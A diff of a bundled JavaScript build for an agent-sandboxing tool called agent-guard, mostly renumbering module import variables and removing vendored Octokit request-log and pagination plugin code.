     import_node_stream = require("node:stream");
@@ -11108,8 +12990,8 @@ function sha2562(data) {
 function writeDeferredFile(file, content) {
   const text = JSON.stringify(content, null, 1) + "\n";
   const tmp = `${file}.${import_node_crypto6.default.randomBytes(8).toString("hex")}.tmp`;
-  import_node_fs17.default.writeFileSync(tmp, text, { mode: 384, flag: "wx" });
-  import_node_fs17.default.renameSync(tmp, file);
+  import_node_fs16.default.writeFileSync(tmp, text, { mode: 384, flag: "wx" });
+  import_node_fs16.default.renameSync(tmp, file);
   return sha2562(text);
 }
 function tampered(file, why) {
@@ -11118,7 +13000,7 @@ function tampered(file, why) {
 function readDeferredFile(file, expectedSha256) {
   let text;
   try {
-    text = import_node_fs17.default.readFileSync(file, "utf8");
+    text = import_node_fs16.default.readFileSync(file, "utf8");
   } catch (err) {
     throw new GuardError("grants", `cannot read ${file}: ${err.code ?? err.message}`);
   }
@@ -11157,12 +13039,12 @@ function readDeferredFile(file, expectedSha256) {
   }
   return { ...doc, files };
 }
-var import_node_crypto6, import_node_fs17, DEFER_FORMAT, REQUEST_FIELDS;
+var import_node_crypto6, import_node_fs16, DEFER_FORMAT, REQUEST_FIELDS;
 var init_defer = __esm({
   "src/guard/grants/defer.ts"() {
     "use strict";
     import_node_crypto6 = __toESM(require("node:crypto"));
-    import_node_fs17 = __toESM(require("node:fs"));
+    import_node_fs16 = __toESM(require("node:fs"));
     init_errors();
     DEFER_FORMAT = "agent-guard-deferred/1";
     REQUEST_FIELDS = {
@@ -11209,7 +13091,7 @@ function pathRefusal(path21, grant) {
 function readChangeSet(changeSet) {
   return changeSet.files.map((f) => {
     if (f.kind === "delete") return { path: f.path, delete: true };
-    const content = import_node_fs18.default.readFileSync(f.contentFile);
+    const content = import_node_fs17.default.readFileSync(f.contentFile);
     if (import_node_crypto7.default.createHash("sha256").update(content).digest("hex") !== f.sha256) throw new PullRequestRefused(`${f.path} changed after it was checked`);
     return { path: f.path, mode: f.mode, content };
   });
@@ -11255,12 +13137,12 @@ Proposed by an agent run under agent-guard (run ${ctx.runId}).`;
   const pull = (await expectOk(github, "POST", `${repo}/pulls`, { title: text.title, body: text.body, head: branch, base: ctx.baseBranch, draft: text.draft })).data;
   return { number: pull.number, url: pull.html_url, branch };
 }
-var import_node_crypto7, import_node_fs18, PullRequestRefused, seg2;
+var import_node_crypto7, import_node_fs17, PullRequestRefused, seg2;
 var init_pullRequest = __esm({
   "src/guard/grants/pullRequest.ts"() {
     "use strict";
     import_node_crypto7 = __toESM(require("node:crypto"));
-    import_node_fs18 = __toESM(require("node:fs"));
+    import_node_fs17 = __toESM(require("node:fs"));
     init_github();
     init_rules();
     init_text();
@@ -11378,9 +13260,9 @@ var init_session = __esm({
 
 // src/guard/grants/agentCommand.ts
 function projectRoot(file, neverVisible) {
-  let dir = import_node_path12.default.dirname(import_node_fs19.default.realpathSync(file));
+  let dir = import_node_path12.default.dirname(import_node_fs18.default.realpathSync(file));
   for (let i = 0; i < 6 && dir !== "/"; i++) {
-    if (import_node_fs19.default.existsSync(import_node_path12.default.join(dir, "package.json"))) return neverVisible.includes(dir) ? void 0 : dir;
+    if (import_node_fs18.default.existsSync(import_node_path12.default.join(dir, "package.json"))) return neverVisible.includes(dir) ? void 0 : dir;
     dir = import_node_path12.default.dirname(dir);
   }
   return void 0;
@@ -11389,7 +13271,7 @@ function neverVisibleDirs(env) {
   const out = ["/", "/home", "/root", "/tmp", "/var/tmp", import_node_os4.default.homedir(), env.HOME, env.RUNNER_TEMP].filter((d) => !!d);
   return out.map((d) => {
     try {
-      return import_node_fs19.default.realpathSync(d);
+      return import_node_fs18.default.realpathSync(d);
     } catch {
       return d;
     }
@@ -11422,7 +13304,7 @@ function rewriteMcpConfig(json, secrets, bridge, hostEnv, out) {
     }
     if (Array.isArray(server.args)) {
       for (const arg of server.args) {
-        const root = typeof arg === "string" && import_node_path12.default.isAbsolute(arg) && import_node_fs19.default.existsSync(arg) ? projectRoot(arg, neverVisibleDirs(hostEnv)) : void 0;
+        const root = typeof arg === "string" && import_node_path12.default.isAbsolute(arg) && import_node_fs18.default.existsSync(arg) ? projectRoot(arg, neverVisibleDirs(hostEnv)) : void 0;
         if (root) out.visible.push(root);
       }
     }
@@ -11430,7 +13312,7 @@ function rewriteMcpConfig(json, secrets, bridge, hostEnv, out) {
   return JSON.stringify(config);
 }
 function isPointer(value) {
-  return import_node_path12.default.isAbsolute(value) && !/[\s\0]/.test(value) && import_node_fs19.default.existsSync(value);
+  return import_node_path12.default.isAbsolute(value) && !/[\s\0]/.test(value) && import_node_fs18.default.existsSync(value);
 }
 function prepareAgentCommand(command2, allSecrets, bridge, env) {
   const secrets = allSecrets.filter((s) => !isPointer(s));
@@ -11446,11 +13328,11 @@ function prepareAgentCommand(command2, allSecrets, bridge, env) {
   }
   return out;
 }
-var import_node_fs19, import_node_os4, import_node_path12;
+var import_node_fs18, import_node_os4, import_node_path12;
 var init_agentCommand = __esm({
   "src/guard/grants/agentCommand.ts"() {
     "use strict";
-    import_node_fs19 = __toESM(require("node:fs"));
+    import_node_fs18 = __toESM(require("node:fs"));
     import_node_os4 = __toESM(require("node:os"));
     import_node_path12 = __toESM(require("node:path"));
     init_errors();
@@ -11465,14 +13347,14 @@ function contextFromPayload(env, payload, trackingCommentId) {
   const m = /^([A-Za-z0-9_.-]+)\/([A-Za-z0-9_.-]+)$/.exec(full);
   if (!m) throw new GuardError("grants", `GITHUB_REPOSITORY is ${full ? `"${full.slice(0, 80)}", not OWNER/REPO` : "not set"}: grants need the triggering repository`);
   const eventName = env.GITHUB_EVENT_NAME ?? "";
-  const p = obj2(payload) ?? {};
-  const pr = obj2(p.pull_request);
-  const issue = obj2(p.issue);
+  const p = obj(payload) ?? {};
+  const pr = obj(p.pull_request);
+  const issue = obj(p.issue);
   const number = num(pr?.number) ?? num(issue?.number);
-  const isPullRequest = !!pr || !!obj2(issue?.pull_request);
-  const defaultBranch = str4(obj2(p.repository)?.default_branch);
-  const baseBranch = str4(obj2(pr?.base)?.ref) ?? defaultBranch;
-  const server = str4(env.GITHUB_SERVER_URL) ?? "https://github.com";
+  const isPullRequest = !!pr || !!obj(issue?.pull_request);
+  const defaultBranch = str3(obj(p.repository)?.default_branch);
+  const baseBranch = str3(obj(pr?.base)?.ref) ?? defaultBranch;
+  const server = str3(env.GITHUB_SERVER_URL) ?? "https://github.com";
   let serverHost = "github.com";
   try {
     serverHost = new URL(server).hostname.toLowerCase();
@@ -11497,22 +13379,22 @@ function readGrantContext(env, trackingCommentId) {
   const file = env.GITHUB_EVENT_PATH;
   if (file) {
     try {
-      payload = JSON.parse(import_node_fs20.default.readFileSync(file, "utf8"));
+      payload = JSON.parse(import_node_fs19.default.readFileSync(file, "utf8"));
     } catch (err) {
       throw new GuardError("grants", `cannot read the event payload ${file}: ${err.message.split("\n")[0]}`);
     }
   }
   return contextFromPayload(env, payload, trackingCommentId);
 }
-var import_node_fs20, obj2, num, str4, PR_EVENTS;
+var import_node_fs19, obj, num, str3, PR_EVENTS;
 var init_context = __esm({
   "src/guard/grants/context.ts"() {
     "use strict";
-    import_node_fs20 = __toESM(require("node:fs"));
+    import_node_fs19 = __toESM(require("node:fs"));
     init_errors();
-    obj2 = (v) => v && typeof v === "object" && !Array.isArray(v) ? v : void 0;
+    obj = (v) => v && typeof v === "object" && !Array.isArray(v) ? v : void 0;
     num = (v) => Number.isSafeInteger(v) && v > 0 ? v : void 0;
-    str4 = (v) => typeof v === "string" && v ? v : void 0;
+    str3 = (v) => typeof v === "string" && v ? v : void 0;
     PR_EVENTS = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
   }
 });
@@ -11895,8 +13777,8 @@ function prepareRunGrants(input) {
     GITHUB_BRIDGE_BASE
   );
   const toolsDir = import_node_path13.default.join(privateDir, "bin");
-  import_node_fs21.default.mkdirSync(toolsDir, { mode: 493 });
-  import_node_fs21.default.writeFileSync(import_node_path13.default.join(toolsDir, "gh"), ghShimSource(process.execPath), { mode: 493 });
+  import_node_fs20.default.mkdirSync(toolsDir, { mode: 493 });
+  import_node_fs20.default.writeFileSync(import_node_path13.default.join(toolsDir, "gh"), ghShimSource(process.execPath), { mode: 493 });
   const jailToolsDir = `${input.jailDir}/bin`;
   return {
     session,
@@ -11906,11 +13788,11 @@ function prepareRunGrants(input) {
     agentEnv: (pathInside) => GrantSession.agentEnv(GITHUB_BRIDGE_BASE, context, jailToolsDir, pathInside)
   };
 }
-var import_node_fs21, import_node_path13, GITHUB_BRIDGE_PORT, GITHUB_BRIDGE_BASE;
+var import_node_fs20, import_node_path13, GITHUB_BRIDGE_PORT, GITHUB_BRIDGE_BASE;
 var init_runGrants = __esm({
   "src/guard/grants/runGrants.ts"() {
     "use strict";
-    import_node_fs21 = __toESM(require("node:fs"));
+    import_node_fs20 = __toESM(require("node:fs"));
     import_node_path13 = __toESM(require("node:path"));
     init_errors();
     init_context();
@@ -12039,7 +13921,6 @@ function parseRunArgs(args) {
       opts.allowLinks = true;
       continue;
     }
-    if (arg === "-h" || arg === "--help") throw new GuardError("usage", RUN_USAGE);
     const eq = arg.indexOf("=");
     const flag = arg.startsWith("--") && eq > 0 ? arg.slice(0, eq) : arg;
     if (!WITH_VALUE.has(flag)) {
@@ -13041,7 +14922,7 @@ function listenUnix(server, socketPath) {
     server.once("error", reject);
     server.listen(socketPath, () => {
       server.off("error", reject);
-      import_node_fs22.default.chmodSync(socketPath, 438);
+      import_node_fs21.default.chmodSync(socketPath, 438);
       resolve3();
     });
   });
@@ -13068,7 +14949,7 @@ async function runGuarded(opts, io, hooks = {}) {
   const bwrap = findExecutable("bwrap", `${io.env.PATH ?? ""}:/usr/bin:/usr/local/bin`);
   if (!bwrap) throw new GuardError("jail", "bubblewrap (bwrap) is not installed: apt-get install bubblewrap");
   const workspace2 = resolveWorkspace(facts, opts.workspaceMode, io.cwd);
-  const cwdReal = import_node_fs22.default.realpathSync(io.cwd);
+  const cwdReal = import_node_fs21.default.realpathSync(io.cwd);
   const agentCwd = cwdReal.startsWith(workspace2.dir + "/") || cwdReal === workspace2.dir ? cwdReal : workspace2.dir;
   const githubToken = readGithubToken(opts, io.env);
   const secrets = knownSecrets(io.env, [...chosen.flatMap((c) => c.authorizer.secrets), ...githubToken ? [githubToken] : []]);
@@ -13082,7 +14963,7 @@ async function runGuarded(opts, io, hooks = {}) {
   const limits = resolveLimits(opts);
   let cgroups;
   try {
-    cgroups = planCgroups(limits, `agent-guard-${process.pid}-${import_node_crypto8.default.randomBytes(6).toString("hex")}`, import_node_fs22.default.readFileSync("/proc/self/mountinfo", "utf8"), import_node_fs22.default.readFileSync("/proc/self/cgroup", "utf8"));
+    cgroups = planCgroups(limits, `agent-guard-${process.pid}-${import_node_crypto8.default.randomBytes(6).toString("hex")}`, import_node_fs21.default.readFileSync("/proc/self/mountinfo", "utf8"), import_node_fs21.default.readFileSync("/proc/self/cgroup", "utf8"));
   } catch (err) {
     audit.close();
     throw err instanceof GuardError ? err : new GuardError("limits", `cannot read this process's cgroups: ${err.message}`);
@@ -13193,7 +15074,7 @@ async function runGuarded(opts, io, hooks = {}) {
     await Promise.all(servers.map(closeServer));
     audit.close();
     if (cgroupsMade) await removeCgroups(sudo, cgroups, io);
-    import_node_fs22.default.rmSync(privateDir, { recursive: true, force: true });
+    import_node_fs21.default.rmSync(privateDir, { recursive: true, force: true });
   }
 }
 function notFoundHint(jailPath, skipped) {
@@ -13325,9 +15206,9 @@ function writeStepSummary(env, result) {
   try {
     const fd = openGuardFile(file, result.agentWritable, -1, "GITHUB_STEP_SUMMARY");
     try {
-      import_node_fs22.default.writeSync(fd, result.audit.stepSummaryMarkdown(result.exitCode));
+      import_node_fs21.default.writeSync(fd, result.audit.stepSummaryMarkdown(result.exitCode));
     } finally {
-      import_node_fs22.default.closeSync(fd);
+      import_node_fs21.default.closeSync(fd);
     }
   } catch {
   }
@@ -13361,13 +15242,13 @@ async function doctorMain(args) {
   process.stdout.write(args[0] === "--json" ? JSON.stringify(report2, null, 2) + "\n" : report2.text + "\n");
   return report2.canRun ? 0 : 1;
 }
-var import_node_child_process3, import_node_crypto8, import_node_fs22, import_node_net2, import_node_os5, import_node_path14, FIRST_PROVIDER_PORT, EGRESS_PORT, TIMEOUT_EXIT, BUDGET_EXIT;
+var import_node_child_process3, import_node_crypto8, import_node_fs21, import_node_net2, import_node_os5, import_node_path14, FIRST_PROVIDER_PORT, EGRESS_PORT, TIMEOUT_EXIT, BUDGET_EXIT;
 var init_command = __esm({
   "src/guard/command.ts"() {
     "use strict";
     import_node_child_process3 = require("node:child_process");
     import_node_crypto8 = __toESM(require("node:crypto"));
-    import_node_fs22 = __toESM(require("node:fs"));
+    import_node_fs21 = __toESM(require("node:fs"));
     import_node_net2 = __toESM(require("node:net"));
     import_node_os5 = __toESM(require("node:os"));
     import_node_path14 = __toESM(require("node:path"));
@@ -14670,2725 +16551,6 @@ var require_dist_node8 = __commonJS({
   }
 });
 
-// node_modules/@octokit/plugin-request-log/dist-node/index.js
-var require_dist_node9 = __commonJS({
-  "node_modules/@octokit/plugin-request-log/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var dist_src_exports = {};
-    __export2(dist_src_exports, {
-      requestLog: () => requestLog
-    });
-    module2.exports = __toCommonJS2(dist_src_exports);
-    var VERSION2 = "4.0.1";
-    function requestLog(octokit) {
-      octokit.hook.wrap("request", (request, options) => {
-        octokit.log.debug("request", options);
-        const start = Date.now();
-        const requestOptions = octokit.request.endpoint.parse(options);
-        const path21 = requestOptions.url.replace(options.baseUrl, "");
-        return request(options).then((response) => {
-          octokit.log.info(
-            `${requestOptions.method} ${path21} - ${response.status} in ${Date.now() - start}ms`
-          );
-          return response;
-        }).catch((error) => {
-          octokit.log.info(
-            `${requestOptions.method} ${path21} - ${error.status} in ${Date.now() - start}ms`
-          );
-          throw error;
-        });
-      });
-    }
-    requestLog.VERSION = VERSION2;
-  }
-});
-
-// node_modules/@octokit/plugin-paginate-rest/dist-node/index.js
-var require_dist_node10 = __commonJS({
-  "node_modules/@octokit/plugin-paginate-rest/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var index_exports = {};
-    __export2(index_exports, {
-      composePaginateRest: () => composePaginateRest,
-      isPaginatingEndpoint: () => isPaginatingEndpoint,
-      paginateRest: () => paginateRest,
-      paginatingEndpoints: () => paginatingEndpoints
-    });
-    module2.exports = __toCommonJS2(index_exports);
-    var VERSION2 = "11.4.4-cjs.2";
-    function normalizePaginatedListResponse(response) {
-      if (!response.data) {
-        return {
-          ...response,
-          data: []
-        };
-      }
-      const responseNeedsNormalization = "total_count" in response.data && !("url" in response.data);
-      if (!responseNeedsNormalization) return response;
-      const incompleteResults = response.data.incomplete_results;
-      const repositorySelection = response.data.repository_selection;
-      const totalCount = response.data.total_count;
-      delete response.data.incomplete_results;
-      delete response.data.repository_selection;
-      delete response.data.total_count;
-      const namespaceKey = Object.keys(response.data)[0];
-      const data = response.data[namespaceKey];
-      response.data = data;
-      if (typeof incompleteResults !== "undefined") {
-        response.data.incomplete_results = incompleteResults;
-      }
-      if (typeof repositorySelection !== "undefined") {
-        response.data.repository_selection = repositorySelection;
-      }
-      response.data.total_count = totalCount;
-      return response;
-    }
-    function iterator(octokit, route, parameters) {
-      const options = typeof route === "function" ? route.endpoint(parameters) : octokit.request.endpoint(route, parameters);
-      const requestMethod = typeof route === "function" ? route : octokit.request;
-      const method = options.method;
-      const headers = options.headers;
-      let url = options.url;
-      return {
-        [Symbol.asyncIterator]: () => ({
-          async next() {
-            if (!url) return { done: true };
-            try {
-              const response = await requestMethod({ method, url, headers });
-              const normalizedResponse = normalizePaginatedListResponse(response);
-              url = ((normalizedResponse.headers.link || "").match(
-                /<([^<>]+)>;\s*rel="next"/
-              ) || [])[1];
-              return { value: normalizedResponse };
-            } catch (error) {
-              if (error.status !== 409) throw error;
-              url = "";
-              return {
-                value: {
-                  status: 200,
-                  headers: {},
-                  data: []
-                }
-              };
-            }
-          }
-        })
-      };
-    }
-    function paginate(octokit, route, parameters, mapFn) {
-      if (typeof parameters === "function") {
-        mapFn = parameters;
-        parameters = void 0;
-      }
-      return gather(
-        octokit,
-        [],
-        iterator(octokit, route, parameters)[Symbol.asyncIterator](),
-        mapFn
-      );
-    }
-    function gather(octokit, results, iterator2, mapFn) {
-      return iterator2.next().then((result) => {
-        if (result.done) {
-          return results;
-        }
-        let earlyExit = false;
-        function done() {
-          earlyExit = true;
-        }
-        results = results.concat(
-          mapFn ? mapFn(result.value, done) : result.value.data
-        );
-        if (earlyExit) {
-          return results;
-        }
-        return gather(octokit, results, iterator2, mapFn);
-      });
-    }
-    var composePaginateRest = Object.assign(paginate, {
-      iterator
-    });
-    var paginatingEndpoints = [
-      "GET /advisories",
-      "GET /app/hook/deliveries",
-      "GET /app/installation-requests",
-      "GET /app/installations",
-      "GET /assignments/{assignment_id}/accepted_assignments",
-      "GET /classrooms",
-      "GET /classrooms/{classroom_id}/assignments",
-      "GET /enterprises/{enterprise}/code-security/configurations",
-      "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}/repositories",
-      "GET /enterprises/{enterprise}/dependabot/alerts",
-      "GET /enterprises/{enterprise}/secret-scanning/alerts",
-      "GET /events",
-      "GET /gists",
-      "GET /gists/public",
-      "GET /gists/starred",
-      "GET /gists/{gist_id}/comments",
-      "GET /gists/{gist_id}/commits",
-      "GET /gists/{gist_id}/forks",
-      "GET /installation/repositories",
-      "GET /issues",
-      "GET /licenses",
-      "GET /marketplace_listing/plans",
-      "GET /marketplace_listing/plans/{plan_id}/accounts",
-      "GET /marketplace_listing/stubbed/plans",
-      "GET /marketplace_listing/stubbed/plans/{plan_id}/accounts",
-      "GET /networks/{owner}/{repo}/events",
-      "GET /notifications",
-      "GET /organizations",
-      "GET /orgs/{org}/actions/cache/usage-by-repository",
-      "GET /orgs/{org}/actions/permissions/repositories",
-      "GET /orgs/{org}/actions/runner-groups",
-      "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/repositories",
-      "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/runners",
-      "GET /orgs/{org}/actions/runners",
-      "GET /orgs/{org}/actions/secrets",
-      "GET /orgs/{org}/actions/secrets/{secret_name}/repositories",
-      "GET /orgs/{org}/actions/variables",
-      "GET /orgs/{org}/actions/variables/{name}/repositories",
-      "GET /orgs/{org}/attestations/{subject_digest}",
-      "GET /orgs/{org}/blocks",
-      "GET /orgs/{org}/code-scanning/alerts",
-      "GET /orgs/{org}/code-security/configurations",
-      "GET /orgs/{org}/code-security/configurations/{configuration_id}/repositories",
-      "GET /orgs/{org}/codespaces",
-      "GET /orgs/{org}/codespaces/secrets",
-      "GET /orgs/{org}/codespaces/secrets/{secret_name}/repositories",
-      "GET /orgs/{org}/copilot/billing/seats",
-      "GET /orgs/{org}/copilot/metrics",
-      "GET /orgs/{org}/copilot/usage",
-      "GET /orgs/{org}/dependabot/alerts",
-      "GET /orgs/{org}/dependabot/secrets",
-      "GET /orgs/{org}/dependabot/secrets/{secret_name}/repositories",
-      "GET /orgs/{org}/events",
-      "GET /orgs/{org}/failed_invitations",
-      "GET /orgs/{org}/hooks",
-      "GET /orgs/{org}/hooks/{hook_id}/deliveries",
-      "GET /orgs/{org}/insights/api/route-stats/{actor_type}/{actor_id}",
-      "GET /orgs/{org}/insights/api/subject-stats",
-      "GET /orgs/{org}/insights/api/user-stats/{user_id}",
-      "GET /orgs/{org}/installations",
-      "GET /orgs/{org}/invitations",
-      "GET /orgs/{org}/invitations/{invitation_id}/teams",
-      "GET /orgs/{org}/issues",
-      "GET /orgs/{org}/members",
-      "GET /orgs/{org}/members/{username}/codespaces",
-      "GET /orgs/{org}/migrations",
-      "GET /orgs/{org}/migrations/{migration_id}/repositories",
-      "GET /orgs/{org}/organization-roles/{role_id}/teams",
-      "GET /orgs/{org}/organization-roles/{role_id}/users",
-      "GET /orgs/{org}/outside_collaborators",
-      "GET /orgs/{org}/packages",
-      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions",
-      "GET /orgs/{org}/personal-access-token-requests",
-      "GET /orgs/{org}/personal-access-token-requests/{pat_request_id}/repositories",
-      "GET /orgs/{org}/personal-access-tokens",
-      "GET /orgs/{org}/personal-access-tokens/{pat_id}/repositories",
-      "GET /orgs/{org}/private-registries",
-      "GET /orgs/{org}/projects",
-      "GET /orgs/{org}/properties/values",
-      "GET /orgs/{org}/public_members",
-      "GET /orgs/{org}/repos",
-      "GET /orgs/{org}/rulesets",
-      "GET /orgs/{org}/rulesets/rule-suites",
-      "GET /orgs/{org}/secret-scanning/alerts",
-      "GET /orgs/{org}/security-advisories",
-      "GET /orgs/{org}/team/{team_slug}/copilot/metrics",
-      "GET /orgs/{org}/team/{team_slug}/copilot/usage",
-      "GET /orgs/{org}/teams",
-      "GET /orgs/{org}/teams/{team_slug}/discussions",
-      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments",
-      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions",
-      "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions",
-      "GET /orgs/{org}/teams/{team_slug}/invitations",
-      "GET /orgs/{org}/teams/{team_slug}/members",
-      "GET /orgs/{org}/teams/{team_slug}/projects",
-      "GET /orgs/{org}/teams/{team_slug}/repos",
-      "GET /orgs/{org}/teams/{team_slug}/teams",
-      "GET /projects/columns/{column_id}/cards",
-      "GET /projects/{project_id}/collaborators",
-      "GET /projects/{project_id}/columns",
-      "GET /repos/{owner}/{repo}/actions/artifacts",
-      "GET /repos/{owner}/{repo}/actions/caches",
-      "GET /repos/{owner}/{repo}/actions/organization-secrets",
-      "GET /repos/{owner}/{repo}/actions/organization-variables",
-      "GET /repos/{owner}/{repo}/actions/runners",
-      "GET /repos/{owner}/{repo}/actions/runs",
-      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/artifacts",
-      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs",
-      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/jobs",
-      "GET /repos/{owner}/{repo}/actions/secrets",
-      "GET /repos/{owner}/{repo}/actions/variables",
-      "GET /repos/{owner}/{repo}/actions/workflows",
-      "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs",
-      "GET /repos/{owner}/{repo}/activity",
-      "GET /repos/{owner}/{repo}/assignees",
-      "GET /repos/{owner}/{repo}/attestations/{subject_digest}",
-      "GET /repos/{owner}/{repo}/branches",
-      "GET /repos/{owner}/{repo}/check-runs/{check_run_id}/annotations",
-      "GET /repos/{owner}/{repo}/check-suites/{check_suite_id}/check-runs",
-      "GET /repos/{owner}/{repo}/code-scanning/alerts",
-      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances",
-      "GET /repos/{owner}/{repo}/code-scanning/analyses",
-      "GET /repos/{owner}/{repo}/codespaces",
-      "GET /repos/{owner}/{repo}/codespaces/devcontainers",
-      "GET /repos/{owner}/{repo}/codespaces/secrets",
-      "GET /repos/{owner}/{repo}/collaborators",
-      "GET /repos/{owner}/{repo}/comments",
-      "GET /repos/{owner}/{repo}/comments/{comment_id}/reactions",
-      "GET /repos/{owner}/{repo}/commits",
-      "GET /repos/{owner}/{repo}/commits/{commit_sha}/comments",
-      "GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls",
-      "GET /repos/{owner}/{repo}/commits/{ref}/check-runs",
-      "GET /repos/{owner}/{repo}/commits/{ref}/check-suites",
-      "GET /repos/{owner}/{repo}/commits/{ref}/status",
-      "GET /repos/{owner}/{repo}/commits/{ref}/statuses",
-      "GET /repos/{owner}/{repo}/contributors",
-      "GET /repos/{owner}/{repo}/dependabot/alerts",
-      "GET /repos/{owner}/{repo}/dependabot/secrets",
-      "GET /repos/{owner}/{repo}/deployments",
-      "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses",
-      "GET /repos/{owner}/{repo}/environments",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/apps",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets",
-      "GET /repos/{owner}/{repo}/environments/{environment_name}/variables",
-      "GET /repos/{owner}/{repo}/events",
-      "GET /repos/{owner}/{repo}/forks",
-      "GET /repos/{owner}/{repo}/hooks",
-      "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries",
-      "GET /repos/{owner}/{repo}/invitations",
-      "GET /repos/{owner}/{repo}/issues",
-      "GET /repos/{owner}/{repo}/issues/comments",
-      "GET /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions",
-      "GET /repos/{owner}/{repo}/issues/events",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/comments",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/events",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/labels",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/reactions",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/sub_issues",
-      "GET /repos/{owner}/{repo}/issues/{issue_number}/timeline",
-      "GET /repos/{owner}/{repo}/keys",
-      "GET /repos/{owner}/{repo}/labels",
-      "GET /repos/{owner}/{repo}/milestones",
-      "GET /repos/{owner}/{repo}/milestones/{milestone_number}/labels",
-      "GET /repos/{owner}/{repo}/notifications",
-      "GET /repos/{owner}/{repo}/pages/builds",
-      "GET /repos/{owner}/{repo}/projects",
-      "GET /repos/{owner}/{repo}/pulls",
-      "GET /repos/{owner}/{repo}/pulls/comments",
-      "GET /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/comments",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/commits",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/files",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews",
-      "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/comments",
-      "GET /repos/{owner}/{repo}/releases",
-      "GET /repos/{owner}/{repo}/releases/{release_id}/assets",
-      "GET /repos/{owner}/{repo}/releases/{release_id}/reactions",
-      "GET /repos/{owner}/{repo}/rules/branches/{branch}",
-      "GET /repos/{owner}/{repo}/rulesets",
-      "GET /repos/{owner}/{repo}/rulesets/rule-suites",
-      "GET /repos/{owner}/{repo}/secret-scanning/alerts",
-      "GET /repos/{owner}/{repo}/secret-scanning/alerts/{alert_number}/locations",
-      "GET /repos/{owner}/{repo}/security-advisories",
-      "GET /repos/{owner}/{repo}/stargazers",
-      "GET /repos/{owner}/{repo}/subscribers",
-      "GET /repos/{owner}/{repo}/tags",
-      "GET /repos/{owner}/{repo}/teams",
-      "GET /repos/{owner}/{repo}/topics",
-      "GET /repositories",
-      "GET /search/code",
-      "GET /search/commits",
-      "GET /search/issues",
-      "GET /search/labels",
-      "GET /search/repositories",
-      "GET /search/topics",
-      "GET /search/users",
-      "GET /teams/{team_id}/discussions",
-      "GET /teams/{team_id}/discussions/{discussion_number}/comments",
-      "GET /teams/{team_id}/discussions/{discussion_number}/comments/{comment_number}/reactions",
-      "GET /teams/{team_id}/discussions/{discussion_number}/reactions",
-      "GET /teams/{team_id}/invitations",
-      "GET /teams/{team_id}/members",
-      "GET /teams/{team_id}/projects",
-      "GET /teams/{team_id}/repos",
-      "GET /teams/{team_id}/teams",
-      "GET /user/blocks",
-      "GET /user/codespaces",
-      "GET /user/codespaces/secrets",
-      "GET /user/emails",
-      "GET /user/followers",
-      "GET /user/following",
-      "GET /user/gpg_keys",
-      "GET /user/installations",
-      "GET /user/installations/{installation_id}/repositories",
-      "GET /user/issues",
-      "GET /user/keys",
-      "GET /user/marketplace_purchases",
-      "GET /user/marketplace_purchases/stubbed",
-      "GET /user/memberships/orgs",
-      "GET /user/migrations",
-      "GET /user/migrations/{migration_id}/repositories",
-      "GET /user/orgs",
-      "GET /user/packages",
-      "GET /user/packages/{package_type}/{package_name}/versions",
-      "GET /user/public_emails",
-      "GET /user/repos",
